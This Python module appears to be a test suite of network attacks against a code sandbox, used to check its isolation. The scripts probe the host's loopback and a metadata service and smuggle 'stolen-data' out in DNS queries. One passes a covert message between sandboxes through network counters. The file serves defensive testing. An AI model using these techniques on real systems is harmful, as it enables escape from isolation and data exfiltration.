"""Attacks on the network: there is none in a sandbox, so nothing that listens on the host is reached by any road.

With a policy that gives it hosts there is none either: what the policy's doors do not take in goes nowhere.
"""

from __future__ import annotations

from outer import Attack, Defence, Patch, Scene
from woodshed.model import SandboxPolicy

# Every box would live in the network namespace of the engine.
NETWORK: Defence = (Patch(
    "        syscalls.unshare(syscalls.CLONE_NEWNET)\n        _loopback_up()\n"
    '        fd = os.open(_PORTS, os.O_WRONLY)\n        os.write(fd, b"0")\n        os.close(fd)\n'),)

TCP = """
with socket.socket({family}) as s:
    s.settimeout(3)
    s.connect({address})
    hit(s.recv(100).decode().index(T["word"]) + 1)
"""
UDP = """
with socket.socket({family}, socket.SOCK_DGRAM) as s:
    s.settimeout(3)
    s.connect({address})  # so that a refusal is heard, and not waited for
    s.send({data})
    answer = s.recv(1000)
    hit(T["word"].encode() in answer and {data}[:40] in answer and "answered")
"""
# RFC 1035: a query whose name carries what is to be smuggled out
QUESTION = r"""b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x0bstolen-data\x07example\0\0\x10\0\x01" """.strip()
# RFC 9000, section 17.2.2: what an Initial packet begins with, padded to the least size of one
QUIC = r"(b'\xc3\x00\x00\x00\x01\x08' + bytes(1194))"
INET, INET6 = "socket.AF_INET", "socket.AF_INET6"


def _tcp(address: str, family: str = INET) -> str:
    return TCP.format(family=family, address=address)


def _udp(address: str, data: str, family: str = INET) -> str:
    return UDP.format(family=family, address=address, data=data)


RESOLVER = """
for server in ("127.0.0.1", "127.0.0.53", *T["addresses"][:2]):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        try:
            s.sendto(QUESTION, (server, 53))
            hit(b"stolen-data" in s.recv(1000) and server)
        except OSError:
            pass
""".replace("QUESTION", QUESTION)

WRITE_COUNTS = """
for _ in range(77):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect_ex(("10.1.1.1", 9))
"""
READ_COUNTS = """
names, counts = [line.split() for line in open("/proc/net/snmp") if line.startswith("Ip:")]
hit(dict(zip(names, counts))["OutNoRoutes"] == "77" and "what another sandbox wrote")
"""


def _doorless() -> Defence:
    """A sandbox with a policy, too, would live in the network of the engine, with what of its doors can stand there."""
    return (*NETWORK, Patch("        _everything_is_here()\n"),
            Patch('        made[0].bind(("0.0.0.0", 53))', '        made[0].bind(("0.0.0.0", 0))'),
            Patch("        for port in (53, *ports):\n", "        for port in (0, *(0 for _ in ports)):\n"))


def _with_hosts(name: str, script: str, *, family: int = 11, needs: tuple[str, ...] = ()) -> Attack:
    policy = SandboxPolicy.parse({"network": {"rules": [{"host": "*", "ports": [80, 443]}]}})
    return Attack(family, f"with a network: {name}", script, (_doorless(),), needs=needs, policy=policy)


async def _message_in_counters(scene: Scene) -> str | None:
    """A sandbox leaves a number for the next one in the counters of a network that both use, one after the other."""
    first = await scene.box()
    await scene.run_in(first, WRITE_COUNTS)
    await first.close()
    return await scene.run(READ_COUNTS)


ATTACKS = (
    # 10: the host's own services
    Attack(10, "an abstract socket", _tcp('"\\0" + T["abstract"]', "socket.AF_UNIX"), (NETWORK,)),
    Attack(10, "the host's loopback", _tcp('("127.0.0.1", 80)'), (NETWORK,)),
    Attack(10, "the host's loopback by IPv6", _tcp('("::1", 80)', INET6), (NETWORK,), needs=("IPv6",)),
    Attack(10, "every address of this machine", _tcp('("0.0.0.0", 80)'), (NETWORK,)),
    Attack(10, "a message in the counters of a network", act=_message_in_counters, defences=((Patch(
        "            if untouched() and counters() == self._fresh:\n", "            if untouched():\n"),),)),
    # 11: addresses
    Attack(11, "the metadata service", _tcp('(T["addresses"][0], 80)'), (NETWORK,)),
    Attack(11, "a machine by its address", _tcp('(T["addresses"][1], 80)'), (NETWORK,)),
    Attack(11, "a machine by IPv6", _tcp('(T["addresses"][2], 80)', INET6), (NETWORK,), needs=("IPv6",)),
    Attack(11, "IPv4 in IPv6", _tcp('("::ffff:" + T["addresses"][0], 80)', INET6), (NETWORK,), needs=("IPv6",)),
    Attack(11, "UDP", _udp('(T["addresses"][1], 443)', 'b"anything"'), (NETWORK,)),
    Attack(11, "QUIC", _udp('(T["addresses"][1], 443)', QUIC), (NETWORK,)),
    _with_hosts("UDP", _udp('(T["addresses"][1], 443)', 'b"anything"')),
    _with_hosts("QUIC", _udp('(T["addresses"][1], 443)', QUIC)),
    _with_hosts("a machine by IPv6", _tcp('(T["addresses"][2], 80)', INET6), needs=("IPv6",)),
    _with_hosts("UDP by IPv6", _udp('(T["addresses"][2], 443)', QUIC, INET6), needs=("IPv6",)),
    _with_hosts("UDP to the metadata service", _udp('(T["addresses"][0], 443)', 'b"anything"')),
    # 12: names
    _with_hosts("data in a question for a name", _udp('(T["addresses"][1], 53)', QUESTION), family=12),
    _with_hosts("data in a question by IPv6", _udp('(T["addresses"][2], 53)', QUESTION, INET6), family=12,
                needs=("IPv6",)),
    Attack(12, "data in a question for a name", _udp('(T["addresses"][1], 53)', QUESTION), (NETWORK,)),
    Attack(12, "data through the host's resolver", RESOLVER, (NETWORK,)),
)
